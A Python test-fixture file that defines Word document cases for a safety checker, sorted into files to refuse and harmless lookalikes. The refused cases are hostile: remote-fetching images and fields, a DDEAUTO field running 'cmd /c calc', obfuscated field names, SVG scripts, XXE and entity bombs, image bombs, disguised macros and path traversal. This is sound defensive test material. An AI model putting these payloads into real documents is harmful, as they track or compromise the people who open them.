"""Word files that fetch, run or swell, and some that only look like it: each by what is wrong."""

import struct

from hostile_parts import (
    CHOICE,
    DEEP,
    FIELD_ADDRESS,
    HTML,
    LAUGHS,
    LINKED,
    MAIN,
    MS,
    SHOWN,
    SPACES,
    WORD,
    Case,
    chart,
    emf,
    fld,
    gif,
    instr,
    mark,
    media,
    other_part,
    override,
    para,
    picture,
    png,
    rel,
    run,
    setting,
    sheet_package,
    svg,
    vml,
    wmf,
)

REFUSED: dict[str, Case] = {
    # pictures
    "图片链接到外面": Case(LINKED, rels=(rel("image", "%URL%a.png"),)),
    "图片链接到本机文件": Case(LINKED, rels=(rel("image", "file:///etc/hostname"),)),
    "图片链接到共享文件夹": Case(LINKED, rels=(rel("image", r"\\127.0.0.1\share\a.png"),)),
    "超链接当图片用": Case(LINKED, rels=(rel("hyperlink", "%URL%b.png"),)),
    "超链接当嵌入图片用": Case(SHOWN, rels=(rel("hyperlink", "%URL%c.png"),)),
    "VML 图片的地址": Case(vml('<v:imagedata src="%URL%d.png"/>')),
    "VML 图片的链接": Case(vml('<v:imagedata o:href="%URL%e.png"/>')),
    "VML 图片用超链接": Case(
        vml('<v:imagedata r:href="rId99"/>'), rels=(rel("hyperlink", "%URL%f.png"),)
    ),
    "VML 图片编号用超链接": Case(
        vml('<v:imagedata r:id="rId99"/>'), rels=(rel("hyperlink", "%URL%g.png"),)
    ),
    "VML 填充的地址": Case(vml('<v:fill type="frame" src="%URL%h.png"/>')),
    "页眉里的外部图片": other_part("header9", "hdr", LINKED, "header", rel("image", "%URL%i.png")),
    "项目符号图片在外面": Case(
        f'<w:numPicBullet {SPACES} w:numPicBulletId="9"><w:pict><v:shape style="width:9pt;height:9pt">'
        '<v:imagedata r:id="rId99"/></v:shape></w:pict></w:numPicBullet>',
        into="word/numbering.xml",
        rels=(rel("image", "%URL%j.png"),),
    ),
    "图表的填充图片在外面": chart(
        '<c:spPr><a:blipFill><a:blip r:link="rId1"/></a:blipFill></c:spPr>',
        rel("image", "%URL%k.png", "rId1"),
    ),
    "视频": Case(
        picture('<a:blip r:embed="rId99"/>').replace(
            "<pic:cNvPicPr/></pic:nvPicPr>",
            '<pic:cNvPicPr/><pic:nvPr><a:videoFile r:link="rId98"/></pic:nvPr></pic:nvPicPr>',
        ),
        rels=(rel("video", "%URL%l.mp4", "rId98"),),
    ),
    "SVG 里的外部图片": media(
        "a.svg", svg('<image xlink:href="%URL%m.png" width="9" height="9"/>')
    ),
    "SVG 里的外部图片（新写法）": media(
        "a.svg", svg('<image href="%URL%n.png" width="9" height="9"/>')
    ),
    "SVG 里的外部图形": media("a.svg", svg('<use xlink:href="%URL%o.svg#a"/>')),
    "SVG 里的样式表": media("a.svg", svg("<style>@import url(%URL%p.css);</style>")),
    "SVG 里的样式表（指令）": media(
        "a.svg", svg("", '<?xml-stylesheet href="%URL%q.css" type="text/css"?>')
    ),
    "SVG 里的填充": media(
        "a.svg", svg('<rect width="9" height="9" style="fill:url(%URL%r.svg#a)"/>')
    ),
    "SVG 里的脚本": media("a.svg", svg("<script>fetch('%URL%s')</script>")),
    "SVG 里的网页": media(
        "a.svg",
        svg('<foreignObject><i xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    ),
    "SVG 的外部实体": media(
        "a.svg", svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "%URL%t">]>')
    ),
    "SVG 当作 PNG": media("a.png", svg('<image xlink:href="%URL%u.png" width="9" height="9"/>')),
    "SVG 里的 SVG": media(
        "a.svg",
        svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    ),
    "EMF 里的文件名": media(
        "a.emf", emf((112, struct.pack("<2I", 0, 24) + b"\\\\127.0.0.1\\share\\a\0\0\0\0\0\0\0"))
    ),
    "EMF 里的 PostScript": media(
        "a.emf", emf((70, struct.pack("<I4sI", 24, b"GDIC", 0x40000004) + bytes(16)))
    ),
    "EMF 的记录长度不对": media("a.emf", emf((70, b""))[:-20] + struct.pack("<2I", 70, 2**31)),
    "WMF 里的 PostScript": media("a.wmf", wmf((0x0626, struct.pack("<2H", 37, 4) + b"%!PS"))),
    "EPS 当作 PNG": media("a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(%URL%v) run\n"),
    "PDF 当作 PNG": media("a.png", b"%PDF-1.4\n"),
    "网页当作 PNG": media("a.png", HTML),
    "图片炸弹": media("a.png", png(60_000, 60_000)),
    "图片炸弹（动画）": media("a.gif", gif(9_000, 9_000, 40)),
    "图片炸弹（很多张）": Case(
        SHOWN,
        rels=tuple(
            rel("image", f"media/b{n}.png", f"rId{n + 90}", outside=False) for n in range(20)
        ),
        parts={f"word/media/b{n}.png": png(9_000, 9_000) for n in range(20)},
        types='<Default Extension="png" ContentType="image/png"/>',
    ),
    # fields
    "INCLUDEPICTURE": Case(para(fld(' INCLUDEPICTURE "%URL%f1.png" \\d '))),
    "INCLUDETEXT": Case(para(fld(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "INCLUDE": Case(para(fld(f" INCLUDE {FIELD_ADDRESS} "))),
    "小写的域": Case(para(fld(f" includetext {FIELD_ADDRESS} "))),
    "简单域": Case(para(f"<w:fldSimple w:instr=' INCLUDETEXT {FIELD_ADDRESS} '/>")),
    "域名分在几段": Case(para(fld(" INC", "LUDE", "TEXT", f" {FIELD_ADDRESS} "))),
    "PAGE 接 DDEAUTO": Case(para(fld("PAGE") + fld('DDEAUTO soffice "%URL%x.ods" a1'))),
    "PAGE 接 DDEAUTO（分段）": Case(
        para(fld("PAGE", result="1") + fld("DDE", "AUTO", ' cmd "/c calc"'))
    ),
    "DDE": Case(para(fld(' DDE soffice "%URL%x.ods" a1 '))),
    "LINK": Case(para(fld(f" LINK Word.Document.8 {FIELD_ADDRESS} \\a "))),
    "IMPORT": Case(para(fld(' IMPORT "%URL%f2.png" '))),
    "DATABASE": Case(para(fld(' DATABASE \\d "%URL%x.mdb" \\s "SELECT 1" '))),
    "RD": Case(para(fld(f" RD {FIELD_ADDRESS} "))),
    "EMBED": Case(para(fld(" EMBED Package "))),
    "AUTOTEXT": Case(para(fld(" AUTOTEXT a "))),
    "MACROBUTTON": Case(para(fld(" MACROBUTTON AutoOpen 点这里 "))),
    "PRINT": Case(para(fld(' PRINT "x" '))),
    "域名由 QUOTE 拼成": Case(
        para(fld(fld("QUOTE 73 78", result="INCLUDE"), f"TEXT {FIELD_ADDRESS}"))
    ),
    "域名的后半由 QUOTE 拼成": Case(
        para(fld("INCLUDE", fld("QUOTE T", result="TEXT"), f" {FIELD_ADDRESS}"))
    ),
    "IF 里的域": Case(para(fld(" IF 1 = 1 ", fld(' INCLUDEPICTURE "%URL%f3.png" '), ' "" '))),
    "域写成正文": Case(para(fld(run(f"<w:t>INCLUDETEXT {FIELD_ADDRESS}</w:t>")))),
    "域前加删去的 PAGE": Case(
        para(
            fld(
                f"<w:del w:id='9' w:author='a'>{instr('PAGE ', 'delInstrText')}</w:del>",
                f"INCLUDETEXT {FIELD_ADDRESS}",
            )
        )
    ),
    "删去的域": Case(para(fld(instr(f"INCLUDETEXT {FIELD_ADDRESS}", "delInstrText")))),
    "没有结尾的域": Case(para(mark("begin") + instr(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "没有开头的域": Case(para(instr(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "域的另一种选择": Case(
        para(
            mark("begin")
            + CHOICE.format(instr("PAGE "), instr(f"INCLUDETEXT {FIELD_ADDRESS}"))
            + mark("end")
        )
    ),
    "文本框里的域": Case(
        vml(
            f"<v:textbox><w:txbxContent><w:p>{fld(f'INCLUDETEXT {FIELD_ADDRESS}')}</w:p></w:txbxContent></v:textbox>"
        )
    ),
    "域中间的文本框": Case(
        para(
            mark("begin")
            + instr("PAGE ")
            + run(
                f"<w:pict><v:shape><v:textbox><w:txbxContent><w:p>{instr(f'INCLUDETEXT {FIELD_ADDRESS}')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
            )
            + mark("end")
        )
    ),
    "页脚里的域": other_part(
        "footer9", "ftr", para(fld(' INCLUDEPICTURE "%URL%f4.png" ')), "footer"
    ),
    "脚注里的域": other_part(
        "footnotes",
        "footnotes",
        f'<w:footnote w:id="9">{para(fld(f"INCLUDETEXT {FIELD_ADDRESS}"))}</w:footnote>',
        "footnotes",
    ),
    "批注里的域": other_part(
        "comments",
        "comments",
        f'<w:comment w:id="9" w:author="a">{para(fld(f"INCLUDETEXT {FIELD_ADDRESS}"))}</w:comment>',
        "comments",
    ),
    "自动图文集里的域": Case(
        rels=(rel("glossaryDocument", "glossary/document.xml", outside=False),),
        parts={
            "word/glossary/document.xml": f"<w:glossaryDocument {SPACES}>{para(fld(f'INCLUDETEXT {FIELD_ADDRESS}'))}</w:glossaryDocument>"
        },
        types=override("word/glossary/document.xml", f"{WORD}.document.glossary+xml"),
    ),
    # other parts and other documents
    "altChunk 网页": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>',
        rels=(rel("aFChunk", "chunk.html", outside=False),),
        parts={"word/chunk.html": HTML},
        types=override("word/chunk.html", "text/html"),
    ),
    "altChunk 在外面": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>', rels=(rel("aFChunk", "%URL%chunk.html"),)
    ),
    "altChunk 称作图片": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>',
        rels=(rel("image", "media/a.png", outside=False),),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "子文档": Case(f'<w:subDoc {SPACES} r:id="rId99"/>', rels=(rel("subDocument", "%URL%a.docx"),)),
    "附加模板": setting(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>', rel("attachedTemplate", "%URL%a.dotm")
    ),
    "附加模板称作超链接": setting(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>', rel("hyperlink", "%URL%b.dotm")
    ),
    "邮件合并": setting(
        f'<w:mailMerge {SPACES}><w:mainDocumentType w:val="catalog"/><w:dataType w:val="textFile"/>'
        '<w:dataSource r:id="rId99"/></w:mailMerge>',
        rel("mailMergeSource", "%URL%a.csv"),
    ),
    "邮件合并（没有编号）": setting(
        f'<w:mailMerge {SPACES}><w:mainDocumentType w:val="catalog"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=x;Data Source=%URL%"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    ),
    "保存时转换": setting(
        f'<w:saveThroughXslt {SPACES} r:id="rId99"/>', rel("transform", "%URL%a.xsl")
    ),
    "框架网页": Case(
        f'<w:frameset {SPACES}><w:frame><w:sourceFileName r:id="rId99"/></w:frame></w:frameset>',
        into="word/webSettings.xml",
        rels=(rel("frame", "%URL%a.html"),),
    ),
    "OLE 链接": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("oleObject", "%URL%a.docx"),),
    ),
    "OLE 对象换了名字": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("oleObject", "media/image9.png", outside=False),),
        parts={"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        types=override("word/media/image9.png", "image/png"),
    ),
    "OLE 对象称作图片": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("image", "media/image9.png", outside=False),),
        parts={"word/media/image9.png": png(1, 1)},
        types=override("word/media/image9.png", "image/png"),
    ),
    "ActiveX 控件": Case(
        para(run('<w:pict><w:control r:id="rId99"/></w:pict>')),
        rels=(rel("control", "a.xml", outside=False),),
        parts={"word/a.xml": "<a/>"},
        types=override("word/a.xml", "application/vnd.ms-office.activeX+xml"),
    ),
    "宏换了名字": Case(
        rels=(rel(f"{MS}/2006/relationships/vbaProject", "theme/theme9.xml", outside=False),),
        parts={"word/theme/theme9.xml": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        types=override("word/theme/theme9.xml", "application/vnd.ms-office.vbaProject"),
    ),
    "启用宏的文档": Case(
        replaced=(
            "[Content_Types].xml",
            f"{WORD}.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    ),
    "任务窗格": Case(
        into="_rels/.rels",
        rels=(rel(f"{MS}/2011/relationships/webextensiontaskpanes", "word/w.xml", outside=False),),
        parts={"word/w.xml": "<w/>"},
        types=override("word/w.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"),
    ),
    "功能区": Case(
        into="_rels/.rels",
        rels=(rel(f"{MS}/2006/relationships/ui/extensibility", "ui.xml", outside=False),),
        parts={"ui.xml": "<a/>"},
        types=override("ui.xml", "application/xml"),
    ),
    "外部样式": Case(rels=(rel("styles", "%URL%styles.xml"),)),
    "外部主题": Case(rels=(rel("theme", "%URL%theme.xml"),)),
    "外部页眉": Case(rels=(rel("header", "%URL%header.xml"),)),
    "外部字体": Case(
        f'<w:font {SPACES} w:name="a"><w:embedRegular r:id="rId99" w:fontKey="{{0}}"/></w:font>',
        into="word/fontTable.xml",
        rels=(rel("font", "%URL%a.odttf"),),
    ),
    "外部正文": Case(
        into="_rels/.rels",
        replaced=(
            "_rels/.rels",
            'Target="word/document.xml"',
            'Target="%URL%document.xml" TargetMode="External"',
        ),
    ),
    "图表的数据在外面": chart(
        '<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData>',
        rel("oleObject", "%URL%a.xlsx", "rId1"),
    ),
    "图表的工作簿带宏": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(
            rel(f"{MS}/2006/relationships/vbaProject", "v.bin", outside=False), {"xl/v.bin": "x"}
        ),
    ),
    "图表的工作簿链接外面": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(rel("externalLinkPath", "http://127.0.0.1/b.xlsx")),
    ),
    "图表的工作簿是程序": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=b"MZ\x90\x00",
    ),
    "脚本的超链接": Case(
        para(f'<w:hyperlink r:id="rId99">{run("<w:t>x</w:t>")}</w:hyperlink>'),
        rels=(rel("hyperlink", "vnd.sun.star.script:a.py$a?language=Python&amp;location=user"),),
    ),
    "超链接带声音": Case(
        SHOWN.replace("</wp:inline>", "")
        .replace(
            '<wp:docPr id="91" name="a"/>',
            '<wp:docPr id="91" name="a"><a:hlinkClick r:id=""><a:snd r:embed="rId98" name="a"/></a:hlinkClick></wp:docPr>',
        )
        .replace("</w:drawing>", "</wp:inline></w:drawing>"),
        rels=(
            rel("image", "media/a.png", outside=False),
            rel("audio", "%URL%a.wav", "rId98"),
        ),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    # names and XML
    "正文叫作 main.dat": Case(
        LINKED, rels=(rel("image", "%URL%n1.png"),), moved=(MAIN, "word/main.dat")
    ),
    "正文叫作 main.dat（域）": Case(
        para(fld(f" INCLUDETEXT {FIELD_ADDRESS} ")), moved=(MAIN, "word/main.dat")
    ),
    "设置叫作 a.bin": Case(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>',
        into="word/settings.xml",
        rels=(rel("attachedTemplate", "%URL%n2.dotm"),),
        moved=("word/settings.xml", "word/a.bin"),
    ),
    "外部实体": Case(
        replaced=(MAIN, "<w:document ", '<!DOCTYPE a [<!ENTITY x SYSTEM "%URL%n3">]><w:document '),
        body=para(run("<w:t>&x;</w:t>")),
    ),
    "外部 DTD": Case(
        replaced=(MAIN, "<w:document ", '<!DOCTYPE a SYSTEM "%URL%n4.dtd"><w:document ')
    ),
    "实体炸弹": Case(
        replaced=(
            "customXml/item1.xml",
            "<b:Sources",
            f'<!DOCTYPE a [<!ENTITY l0 "笑">{LAUGHS}]><b:Sources',
        )
    ),
    "UTF-16 的 DTD": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={
            "customXml/item9.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "%URL%n5"><a/>'.encode(
                "utf-16"
            )
        },
    ),
    "少见的编码": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={"customXml/item9.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")},
    ),
    "很深的 XML": Case(para(DEEP)),
    "坏的 XML": Case(para("<w:r>")[:-1]),
    "同名的部件": Case(twice=MAIN),
    "大小写不同的部件": Case(parts={"word/DOCUMENT.xml": "<a/>"}),
    "同号的关系": Case(
        SHOWN,
        rels=(rel("image", "media/a.png", outside=False), rel("image", "%URL%n6.png")),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "没有注明在外面的地址": Case(SHOWN, rels=(rel("image", "%URL%n7.png", outside=False),)),
    "目标在上级文件夹": Case(
        SHOWN, rels=(rel("image", "../../../../etc/hostname", outside=False),)
    ),
    "不认识的关系": Case(
        rels=(rel("http://example.org/new", "a.xml", outside=False),),
        parts={"word/a.xml": "<a/>"},
        types=override("word/a.xml", "application/xml"),
    ),
    "很多部件": Case(
        rels=tuple(
            rel("customXml", f"../customXml/i{n}.xml", f"rIdx{n}", outside=False)
            for n in range(6000)
        ),
        parts={f"customXml/i{n}.xml": "<a/>" for n in range(6000)},
    ),
    "很大的部件": Case(parts={"word/huge.bin": bytes(70 * 2**20)}),
}

PASSING: dict[str, Case] = {
    "超链接": Case(
        para(f'<w:hyperlink r:id="rId99">{run("<w:t>网页</w:t>")}</w:hyperlink>'),
        rels=(rel("hyperlink", "%URL%p1.html"),),
    ),
    "图片上的超链接": Case(
        SHOWN.replace(
            '<wp:docPr id="91" name="a"/>',
            '<wp:docPr id="91" name="a"><a:hlinkClick r:id="rId98"/></wp:docPr>',
        ),
        rels=(
            rel("image", "media/a.png", outside=False),
            rel("hyperlink", "%URL%p2.html", "rId98"),
        ),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "HYPERLINK 域": Case(para(fld(' HYPERLINK "%URL%p3.html" \\t "_blank" '))),
    "写着地址的文字": Case(para(run("<w:t>INCLUDETEXT %URL%p4.docx</w:t>"))),
    "REF 到同名的书签": Case(para(fld(" REF INCLUDETEXT \\h "))),
    "自定义 XML 里的地址": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={"customXml/item9.xml": '<a href="%URL%p5"/>'},
    ),
    "附加架构的名称": setting(f'<w:attachedSchema {SPACES} w:val="%URL%p6.xsd"/>'),
    "也是 ODF 的文件": Case(
        parts={
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": (
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.'
                'opendocument.text"/></manifest:manifest>'
            ),
            "content.xml": (
                '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:section '
                'text:name="s"><text:section-source xlink:href="%URL%p7.odt"/></text:section>'
                "</office:text></office:body></office:document-content>"
            ),
        }
    ),
    "多出来的部件": Case(parts={"[trash]/0000.dat": "x", "word/vbaProject.bin": "x"}),
    "图表和它的工作簿": chart(
        '<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(),
    ),
    "SVG": media(
        "a.svg",
        svg(
            '<defs><g id="a"/></defs><use xlink:href="#a"/><rect fill="url(#a)" width="9" height="9"/>'
        ),
    ),
    "EMF": media("a.emf", emf((70, struct.pack("<I4s", 4, b"EMF+")))),
    "WMF": media("a.wmf", wmf((0x0626, struct.pack("<2H", 15, 4) + b"note"))),
}
